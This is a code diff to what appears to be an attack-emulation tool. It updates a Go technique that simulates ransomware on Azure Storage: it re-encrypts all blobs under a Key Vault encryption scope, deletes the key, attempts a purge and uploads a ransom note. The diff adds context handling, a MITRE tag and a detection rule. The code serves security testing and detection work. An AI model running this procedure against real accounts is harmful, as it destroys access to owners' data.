@@ -132,15 +132,23 @@ Sample event for encryption scope creation:
 }
 ` + CodeBlock + `
 `,
-		Platform:                   stratus.Azure,
-		IsIdempotent:               false,
-		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Impact},
+		Impact:                stratus.ImpactDestructive,
+		Platform:              stratus.Azure,
+		IsIdempotent:          false,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Impact},
+		MitreAttackTechniques: []string{"T1486"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"operationName": {"Microsoft.Storage/storageAccounts/encryptionScopes/write"}},
+			},
+			FalsePositives: []string{"Administrators creating encryption scopes"},
+		},
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
+		DetonateWithContext:        detonate,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	storageAccount := params["storage_account_name"]
 	resourceGroup := params["resource_group_name"]
 	keyVaultName := params["key_vault_name"]
@@ -151,43 +159,43 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	log.Println("Simulating a ransomware attack on storage account " + storageAccount)
 
 	// Create blob client first - needed for blob creation
-	blobClient, err := utils.GetAzureBlobClient(blobServiceURL, azureConfig.SubscriptionID, azureConfig.GetCredentials(), azureConfig.ClientOptions, params)
+	blobClient, err := utils.GetAzureBlobClient(ctx, blobServiceURL, azureConfig.SubscriptionID, azureConfig.GetCredentials(), azureConfig.ClientOptions, params)
 	if err != nil {
 		return fmt.Errorf("failed to instantiate Blob Client: %w", err)
 	}
 
-	if err := createFakeBlobs(blobClient); err != nil {
+	if err := createFakeBlobs(ctx, blobClient); err != nil {
 		return fmt.Errorf("failed to create fake blobs: %w", err)
 	}
 
-	if err := enablePurgeProtection(azureConfig, resourceGroup, keyVaultName); err != nil {
+	if err := enablePurgeProtection(ctx, azureConfig, resourceGroup, keyVaultName); err != nil {
 		return fmt.Errorf("failed to enable purge protection: %w", err)
 	}
 
-	keyID, err := createKeyVaultKey(azureConfig, resourceGroup, keyVaultName)
+	keyID, err := createKeyVaultKey(ctx, azureConfig, resourceGroup, keyVaultName)
 	if err != nil {
 		return fmt.Errorf("failed to create key vault key: %w", err)
 	}
 	log.Printf("Created Key Vault key: %s", keyID)
 
-	if err := createEncryptionScope(azureConfig, resourceGroup, storageAccount, keyVaultName); err != nil {
+	if err := createEncryptionScope(ctx, azureConfig, resourceGroup, storageAccount, keyVaultName); err != nil {
 		return fmt.Errorf("failed to create encryption scope: %w", err)
 	}
 
-	if err := encryptAllBlobsWithScope(blobClient); err != nil {
+	if err := encryptAllBlobsWithScope(ctx, blobClient); err != nil {
 		return fmt.Errorf("failed to encrypt blobs with encryption scope: %w", err)
 	}
 
-	if err := deleteKeyVaultKey(azureConfig, keyVaultName); err != nil {
+	if err := deleteKeyVaultKey(ctx, azureConfig, keyVaultName); err != nil {
 		return fmt.Errorf("failed to delete key vault key: %w", err)
 	}
 
-	if err := attemptPurgeKey(azureConfig, keyVaultName); err != nil {
+	if err := attemptPurgeKey(ctx, azureConfig, keyVaultName); err != nil {
 		return fmt.Errorf("failed to attempt key purge: %w", err)
 	}
 
 	log.Println("Uploading ransom note...")
-	if err := utils.UploadBlob(blobClient, RansomContainerName, RansomNoteFilename, strings.NewReader(RansomNoteContents)); err != nil {
+	if err := utils.UploadBlob(ctx, blobClient, RansomContainerName, RansomNoteFilename, strings.NewReader(RansomNoteContents)); err != nil {
 		return fmt.Errorf("failed to upload ransom note: %w", err)
 	}
 
@@ -195,7 +203,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return nil
 }
 
-func createFakeBlobs(client *azblob.Client) error {
+func createFakeBlobs(ctx context.Context, client *azblob.Client) error {
 	log.Printf("Creating %d fake blobs across %d containers", numFiles, numContainers)
 
 	for i := 0; i < numFiles; i++ {
@@ -219,7 +227,7 @@ func createFakeBlobs(client *azblob.Client) error {
 		content := make([]byte, contentSize)
 		rand.Read(content)
 
-		_, err := client.UploadBuffer(context.Background(), containerName, blobName, content, nil)
+		_, err := client.UploadBuffer(ctx, containerName, blobName, content, nil)
 		if err != nil {
 			return fmt.Errorf("failed to upload blob %s to container %s: %w", blobName, containerName, err)
 		}
@@ -229,7 +237,7 @@ func createFakeBlobs(client *azblob.Client) error {
 	return nil
 }
 
-func enablePurgeProtection(azure *providers.AzureProvider, resourceGroup, keyVaultName string) error {
+func enablePurgeProtection(ctx context.Context, azure *providers.AzureProvider, resourceGroup, keyVaultName string) error {
 	vaultsClient, err := getVaultsClient(azure)
 	if err != nil {
 		return fmt.Errorf("failed to create vaults client: %w", err)
@@ -237,12 +245,12 @@ func enablePurgeProtection(azure *providers.AzureProvider, resourceGroup, keyVau
 
 	log.Printf("Enabling purge protection on Key Vault: %s", keyVaultName)
 
-	vault, err := vaultsClient.Get(context.Background(), resourceGroup, keyVaultName, nil)
+	vault, err := vaultsClient.Get(ctx, resourceGroup, keyVaultName, nil)
 	if err != nil {
 		return fmt.Errorf("failed to get key vault: %w", err)
 	}
 
-	poller, err := vaultsClient.BeginCreateOrUpdate(context.Background(), resourceGroup, keyVaultName, armkeyvault.VaultCreateOrUpdateParameters{
+	poller, err := vaultsClient.BeginCreateOrUpdate(ctx, resourceGroup, keyVaultName, armkeyvault.VaultCreateOrUpdateParameters{
 		Location: vault.Location,
 		Properties: &armkeyvault.VaultProperties{
 			TenantID:                  vault.Properties.TenantID,
@@ -258,7 +266,7 @@ func enablePurgeProtection(azure *providers.AzureProvider, resourceGroup, keyVau
 		return fmt.Errorf("failed to enable purge protection: %w", err)
 	}
 
-	_, err = poller.PollUntilDone(context.Background(), &runtime.PollUntilDoneOptions{Frequency: 2 * time.Second})
+	_, err = poller.PollUntilDone(ctx, &runtime.PollUntilDoneOptions{Frequency: 2 * time.Second})
 	if err != nil {
 		return fmt.Errorf("failed to poll key vault update: %w", err)
 	}
@@ -267,14 +275,14 @@ func enablePurgeProtection(azure *providers.AzureProvider, resourceGroup, keyVau
 	return nil
 }
 
-func createKeyVaultKey(azure *providers.AzureProvider, resourceGroup, keyVaultName string) (string, error) {
+func createKeyVaultKey(ctx context.Context, azure *providers.AzureProvider, resourceGroup, keyVaultName string) (string, error) {
 	keysClient, err := getManagementKeysClient(azure)
 	if err != nil {
 		return "", fmt.Errorf("failed to create keys client: %w", err)
 	}
 
 	log.Printf("Creating RSA 2048 key in Key Vault: %s", keyVaultName)
-	result, err := keysClient.CreateIfNotExist(context.Background(), resourceGroup, keyVaultName, KeyName, armkeyvault.KeyCreateParameters{
+	result, err := keysClient.CreateIfNotExist(ctx, resourceGroup, keyVaultName, KeyName, armkeyvault.KeyCreateParameters{
 		Properties: &armkeyvault.KeyProperties{
 			Kty:     to.Ptr(armkeyvault.JSONWebKeyTypeRSA),
 			KeySize: to.Ptr(int32(2048)),
@@ -287,7 +295,7 @@ func createKeyVaultKey(azure *providers.AzureProvider, resourceGroup, keyVaultNa
 	return *result.Properties.KeyURIWithVersion, nil
 }
 
-func createEncryptionScope(azure *providers.AzureProvider, resourceGroup, storageAccount, keyVaultName string) error {
+func createEncryptionScope(ctx context.Context, azure *providers.AzureProvider, resourceGroup, storageAccount, keyVaultName string) error {
 	scopesClient, err := getEncryptionScopesClient(azure)
 	if err != nil {
 		return fmt.Errorf("failed to create encryption scopes client: %w", err)
@@ -298,7 +306,7 @@ func createEncryptionScope(azure *providers.AzureProvider, resourceGroup, storag
 		return fmt.Errorf("failed to create keys client: %w", err)
 	}
 
-	key, err := keysClient.Get(context.Background(), resourceGroup, keyVaultName, KeyName, nil)
+	key, err := keysClient.Get(ctx, resourceGroup, keyVaultName, KeyName, nil)
 	if err != nil {
 		return fmt.Errorf("failed to get key: %w", err)
 	}
@@ -306,7 +314,7 @@ func createEncryptionScope(azure *providers.AzureProvider, resourceGroup, storag
 	keyURI := *key.Properties.KeyURI
 
 	log.Printf("Creating encryption scope: %s with key: %s", EncryptionScopeName, keyURI)
-	_, err = scopesClient.Put(context.Background(), resourceGroup, storageAccount, EncryptionScopeName, armstorage.EncryptionScope{
+	_, err = scopesClient.Put(ctx, resourceGroup, storageAccount, EncryptionScopeName, armstorage.EncryptionScope{
 		EncryptionScopeProperties: &armstorage.EncryptionScopeProperties{
 			Source: to.Ptr(armstorage.EncryptionScopeSourceMicrosoftKeyVault),
 			KeyVaultProperties: &armstorage.EncryptionScopeKeyVaultProperties{
@@ -323,8 +331,8 @@ func createEncryptionScope(azure *providers.AzureProvider, resourceGroup, storag
 	return nil
 }
 
-func encryptAllBlobsWithScope(client *azblob.Client) error {
-	blobMap, err := utils.ListAllBlobVersions(client)
+func encryptAllBlobsWithScope(ctx context.Context, client *azblob.Client) error {
+	blobMap, err := utils.ListAllBlobVersions(ctx, client)
 	if err != nil {
 		return fmt.Errorf("unable to list blobs: %w", err)
 	}
@@ -343,7 +351,7 @@ func encryptAllBlobsWithScope(client *azblob.Client) error {
 
 	for containerName, versionMap := range blobMap {
 		for blobName := range versionMap {
-			downloadResp, err := client.DownloadStream(context.Background(), containerName, blobName, nil)
+			downloadResp, err := client.DownloadStream(ctx, containerName, blobName, nil)
 			if err != nil {
 				return fmt.Errorf("unable to download blob %s from container %s: %w", blobName, containerName, err)
 			}
@@ -354,7 +362,7 @@ func encryptAllBlobsWithScope(client *azblob.Client) error {
 				return fmt.Errorf("unable to read blob %s content: %w", blobName, err)
 			}
 
-			_, err = client.UploadStream(context.Background(), containerName, blobName, bytes.NewReader(blobContent), &azblob.UploadStreamOptions{
+			_, err = client.UploadStream(ctx, containerName, blobName, bytes.NewReader(blobContent), &azblob.UploadStreamOptions{
 				CPKScopeInfo: cpkScopeInfo,
 			})
 			if err != nil {
@@ -367,14 +375,14 @@ func encryptAllBlobsWithScope(client *azblob.Client) error {
 	return nil
 }
 
-func deleteKeyVaultKey(azure *providers.AzureProvider, keyVaultName string) error {
+func deleteKeyVaultKey(ctx context.Context, azure *providers.AzureProvider, keyVaultName string) error {
 	keysClient, err := getDataPlaneKeysClient(azure, keyVaultName)
 	if err != nil {
 		return fmt.Errorf("failed to create data plane keys client: %w", err)
 	}
 
 	log.Printf("Soft-deleting key: %s from vault: %s", KeyName, keyVaultName)
-	_, err = keysClient.DeleteKey(context.Background(), KeyName, nil)
+	_, err = keysClient.DeleteKey(ctx, KeyName, nil)
 	if err != nil {
 		return fmt.Errorf("failed to delete key: %w", err)
 	}
@@ -383,14 +391,14 @@ func deleteKeyVaultKey(azure *providers.AzureProvider, keyVaultName string) erro
 	return nil
 }
 
-func attemptPurgeKey(azure *providers.AzureProvider, keyVaultName string) error {
+func attemptPurgeKey(ctx context.Context, azure *providers.AzureProvider, keyVaultName string) error {
 	keysClient, err := getDataPlaneKeysClient(azure, keyVaultName)
 	if err != nil {
 		return fmt.Errorf("failed to create data plane keys client: %w", err)
 	}
 
 	log.Printf("Attempting to purge deleted key: %s from vault: %s", KeyName, keyVaultName)
-	_, err = keysClient.PurgeDeletedKey(context.Background(), KeyName, nil)
+	_, err = keysClient.PurgeDeletedKey(ctx, KeyName, nil)
 	if err != nil {
 		log.Printf("Key purge failed as expected (purge protection enabled)")
 		return nil